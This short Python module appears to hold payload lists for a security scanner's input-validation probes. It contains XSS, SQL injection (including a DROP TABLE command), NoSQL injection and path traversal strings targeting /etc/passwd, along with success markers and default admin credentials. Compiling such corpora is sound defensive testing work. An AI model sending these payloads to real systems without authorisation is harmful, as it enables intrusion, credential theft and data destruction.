"""Payload corpora for input-validation probes."""

XSS_PAYLOADS = [
    '<script>alert("XSS")</script>',
    '"><script>alert(1)</script>',
    "javascript:alert(1)",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
]

SQL_PAYLOADS = [
    "' OR '1'='1",
    "1' OR '1'='1' --",
    "admin'--",
    "' UNION SELECT NULL--",
    "1; DROP TABLE users--",
]

NOSQL_PAYLOADS = [
    '{"$gt":""}',
    '{"$ne":null}',
    '{"$regex":".*"}',
    "[$ne]=1",
]

PATH_TRAVERSAL_PAYLOADS = [
    "../../../etc/passwd",
    "..\\..\\..\\windows\\system.ini",
    "....//....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
]

# Markers whose presence in a response body indicates a positive probe.
SQL_ERROR_MARKERS = ("SQL", "syntax")
TRAVERSAL_MARKERS = ("root:", "[extensions]")

DEFAULT_CREDENTIALS = [
    ("admin", "admin"),
    ("admin", "password"),
    ("root", "root"),
]

INVALID_BEARER_TOKEN = "invalid_token_12345"

OVERSIZED_PAYLOAD_CHARS = 10_000_000
